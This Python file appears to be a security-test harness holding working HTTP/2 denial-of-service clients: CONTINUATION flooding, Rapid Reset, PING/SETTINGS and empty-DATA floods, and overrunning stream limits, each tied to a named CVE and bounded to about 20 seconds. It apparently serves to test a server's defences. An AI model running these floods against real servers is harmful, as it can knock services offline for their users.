#!/usr/bin/python3
"""Hostile HTTP/2 clients over TLS (python3-h2 and hyperframe), for bench/transport.sh and the e2e security tests.

  continuation HOST PORT DIR MB   one HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB,
                                  up to MB mebibytes or 20 s (CVE-2024-30255 / -27316 class)
  rapid-reset HOST PORT DIR N [AUTHORITY]
                                  N requests for /slow?ms=3000 (to AUTHORITY, default backend), each reset at once
                                  (HEADERS + RST_STREAM), at most 20 s (CVE-2023-44487)
  control HOST PORT DIR N KIND    N PING or SETTINGS frames (KIND ping|settings), never reading the acknowledgements the
                                  server queues (CVE-2019-9512 / -9515), at most 20 s
  empty-data HOST PORT DIR N      one stream, then N DATA frames with no payload (CVE-2019-9518), at most 20 s
  streams HOST PORT DIR N AUTHORITY
                                  N requests for /slow?ms=3000 at once, above the server's advertised stream limit;
                                  prints the limit and how many were refused (REFUSED_STREAM) or answered, at most 20 s
Prints one line: what was sent and how the server reacted ("goaway" with its error code, "closed", or "nothing").
DIR holds client.pem, client.key and ca.pem; DIR "-" connects without a client certificate (and does not check the
server's); DIR "h2c" speaks plaintext HTTP/2 with prior knowledge (an app-facing port). Every loop is bounded in
count and time.
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hyperframe.frame


def connect(host, port, certs):
    if certs == "h2c":
        sock = socket.create_connection((host, port), timeout=5)
    else:
        sock = tls(host, port, certs)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def tls(host, port, certs):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False  # the peer proves a SPIFFE ID, not a host name
    if certs == "-":
        ctx.verify_mode = ssl.CERT_NONE  # an attacker without a certificate does not care who answers
    else:
        ctx.load_verify_locations(certs + "/ca.pem")
        ctx.load_cert_chain(certs + "/client.pem", certs + "/client.key")
    ctx.set_alpn_protocols(["h2"])
    return ctx.wrap_socket(socket.create_connection((host, port), timeout=5))


def reaction(sock, conn):
    """Reads what the server sent so far without waiting long: 'goaway CODE', 'closed' or None."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return "closed"
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return "goaway %s" % event.error_code
    except (BlockingIOError, ssl.SSLWantReadError):
        return None
    except (ConnectionError, ssl.SSLError, OSError) as e:
        return "closed (%s)" % type(e).__name__
    except Exception as e:  # h2 refusing what the server sent counts as the server ending the connection
        return "closed (%s)" % type(e).__name__
    finally:
        sock.setblocking(True)


def awaited_reaction(sock, conn, seconds):
    """The server's reaction once it has worked through what was sent (at most seconds): see reaction()."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        outcome = reaction(sock, conn)
        if outcome:
            return outcome
        time.sleep(0.1)
    return "nothing"


def refused_at_handshake(what, error):
    """The server refused the connection before HTTP/2 (a TLS server that requires a client certificate)."""
    print("%s: sent 0.0 MiB in 0.0 s; server: closed at the handshake (%s)" % (what, type(error).__name__))


def continuation(host, port, certs, mebibytes):
    try:
        sock, conn = connect(host, port, certs)
        block = conn.encoder.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "backend")])
        sock.sendall(hyperframe.frame.HeadersFrame(1, data=block).serialize())
    except (ConnectionError, ssl.SSLError, OSError) as e:
        # TLS 1.3 ends the client's handshake before the server has checked its certificate: the refusal shows at
        # the first write.
        refused_at_handshake("continuation", e)
        return
    # Each fragment is a valid literal header (never indexed), so a decoder has no reason to stop early.
    name = b"x-flood"
    value = b"a" * 16000
    fragment = b"\x10" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
    sent, start, outcome = 0, time.monotonic(), None
    while sent < mebibytes << 20 and time.monotonic() - start < 20:
        try:
            sock.sendall(hyperframe.frame.ContinuationFrame(1, data=fragment).serialize())
        except (ConnectionError, ssl.SSLError, OSError) as e:
            outcome = "closed (%s)" % type(e).__name__
            break
        sent += len(fragment)
        if sent % (1 << 20) < len(fragment):
            outcome = reaction(sock, conn)
            if outcome:
                break
    outcome = outcome or awaited_reaction(sock, conn, 5)
    print("continuation: sent %.1f MiB in %.1f s; server: %s" % (sent / 1048576, time.monotonic() - start, outcome))


def encode_int(n):
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def rapid_reset(host, port, certs, count, authority="backend"):
    try:
        sock, conn = connect(host, port, certs)
    except (ConnectionError, ssl.SSLError, OSError) as e:
        refused_at_handshake("rapid-reset", e)
        return
    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/slow?ms=3000"), (":authority", authority)]
    sent, start, outcome = 0, time.monotonic(), None
    while sent < count and time.monotonic() - start < 20:
        try:
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream, error_code=8)
                sent += 1
            sock.sendall(conn.data_to_send())
        except (ConnectionError, ssl.SSLError, OSError) as e:
            outcome = "closed (%s)" % type(e).__name__
            break
        except Exception as e:  # h2 refuses to open streams on a connection the server ended
            outcome = "ended (%s)" % type(e).__name__
            break
        outcome = reaction(sock, conn)
        if outcome:
            break
    outcome = outcome or awaited_reaction(sock, conn, 5)
    print("rapid-reset: sent %d HEADERS+RST_STREAM pairs in %.1f s; server: %s" % (sent, time.monotonic() - start, outcome))


def streams(host, port, certs, count, authority):
    """Opens count streams for /slow?ms=3000 at once, never ending them early: how many the server refused."""
    sock, conn = connect(host, port, certs)
    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/slow?ms=3000"), (":authority", authority)]
    conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100})
    sock.sendall(conn.data_to_send())
    advertised, refused, answered, start = None, 0, 0, time.monotonic()
    # Read the server's SETTINGS first, then open the streams without regard to its limit (as an attacker would).
    while advertised is None and time.monotonic() - start < 5:
        for event in conn.receive_data(sock.recv(65536)):
            if isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                advertised = changed.new_value if changed else "unlimited"
        sock.sendall(conn.data_to_send())
    conn.remote_settings.max_concurrent_streams = 2 ** 31 - 1
    conn.remote_settings.acknowledge()
    for _ in range(count):
        conn.send_headers(conn.get_next_available_stream_id(), headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    sock.settimeout(1)
    while answered + refused < count and time.monotonic() - start < 20:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.StreamReset) and event.error_code == 7:
                refused += 1
            elif isinstance(event, h2.events.StreamEnded):
                answered += 1
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        sock.sendall(conn.data_to_send())
    print("streams: advertised %s; opened %d; refused %d; answered %d in %.1f s"
          % (advertised, count, refused, answered, time.monotonic() - start))


def flood(what, host, port, certs, count, frame_of):
    """Sends count frames made by frame_of(i), in batches, without reading; prints how the server reacted."""
    try:
        sock, conn = connect(host, port, certs)
    except (ConnectionError, ssl.SSLError, OSError) as e:
        refused_at_handshake(what, e)
        return
    sent, start, outcome = 0, time.monotonic(), None
    sock.settimeout(5)
    while sent < count and time.monotonic() - start < 20:
        batch = b"".join(frame_of(sent + i) for i in range(1000))
        try:
            sock.sendall(batch)
        except (ConnectionError, ssl.SSLError, OSError) as e:
            outcome = "closed (%s)" % type(e).__name__
            break
        sent += 1000
        if sent % 50000 == 0:
            outcome = reaction(sock, conn)
            if outcome:
                break
    outcome = outcome or awaited_reaction(sock, conn, 5)
    print("%s: sent %d frames in %.1f s; server: %s" % (what, sent, time.monotonic() - start, outcome))


def control(host, port, certs, count, kind):
    if kind == "ping":
        frame_of = lambda i: hyperframe.frame.PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()
    else:
        frame_of = lambda i: hyperframe.frame.SettingsFrame(0, settings={0x4: 65535 + i % 100}).serialize()
    flood(kind, host, port, certs, count, frame_of)


def empty_data(host, port, certs, count):
    block = h2.connection.H2Connection().encoder.encode(
        [(":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", "backend")])

    def frame_of(i):
        if i == 0:
            return hyperframe.frame.HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
        return hyperframe.frame.DataFrame(1, data=b"").serialize()
    flood("empty-data", host, port, certs, count, frame_of)


if __name__ == "__main__":
    mode, host, port, certs, amount = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
    if mode == "control":
        control(host, port, certs, amount, sys.argv[6])
    elif mode == "empty-data":
        empty_data(host, port, certs, amount)
    elif mode == "streams":
        streams(host, port, certs, amount, sys.argv[6])
    elif mode == "rapid-reset":
        rapid_reset(host, port, certs, amount, *sys.argv[6:7])
    else:
        {"continuation": continuation, "rapid-reset": rapid_reset}[mode](host, port, certs, amount)
